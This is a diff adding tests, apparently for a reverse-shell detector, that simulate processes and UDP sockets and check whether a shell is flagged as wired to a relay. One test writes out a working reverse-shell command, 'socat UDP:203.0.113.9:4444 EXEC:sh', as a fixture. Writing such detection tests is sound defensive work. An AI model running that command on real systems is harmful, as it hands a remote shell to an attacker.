@@ -493,3 +493,44 @@ describe('what the wiring remembers', () => {
     expectNotWired(host, 11)
   })
 })
+
+describe('a relay by UDP', () => {
+  const udp = { stream: false }
+  const resolver = { ip: '192.0.2.53', port: 53 }
+
+  test('that started a shell while it held its socket is one: socat UDP:... EXEC:sh', () => {
+    const host = machine()
+    host.exec(10, 'socat UDP:203.0.113.9:4444 EXEC:sh', { stdio: [terminal(), terminal(), terminal()] })
+    host.connect(10, attacker, udp)
+    host.fork(10, 11)
+    host.exec(11, 'sh', { stdio: [unixSocket(), unixSocket(), terminal()] })
+    expectWired(host, 11, 10, 'socat')
+  })
+
+  test('is none that holds the socket of its resolver', () => {
+    const host = machine()
+    host.exec(10, 'node agent.js', { stdio: [terminal(), terminal(), terminal()] })
+    host.connect(10, resolver, udp)
+    host.fork(10, 11)
+    host.exec(11, 'sh', { stdio: [pipe(), pipe(), terminal()] })
+    expectNotWired(host, 11)
+  })
+
+  test('is none that looks up a name while a shell of its is at work', () => {
+    const host = machine()
+    host.exec(10, 'node agent.js', { stdio: [terminal(), terminal(), terminal()] })
+    host.fork(10, 11)
+    host.exec(11, 'sh', { stdio: [pipe(), pipe(), terminal()] })
+    for (const peer of [resolver, elsewhere]) host.connect(10, peer, udp)
+    expectNotWired(host, 11)
+  })
+
+  test('is none that is the other end of a pipeline and has looked up a name', () => {
+    const host = machine()
+    const [into, out] = [pipe(), pipe()]
+    host.exec(10, 'sh', { stdio: [into, out, terminal()] })
+    host.exec(12, 'logger', { stdio: [out, into, terminal()] })
+    host.connect(12, elsewhere, udp)
+    expectNotWired(host, 10)
+  })
+})
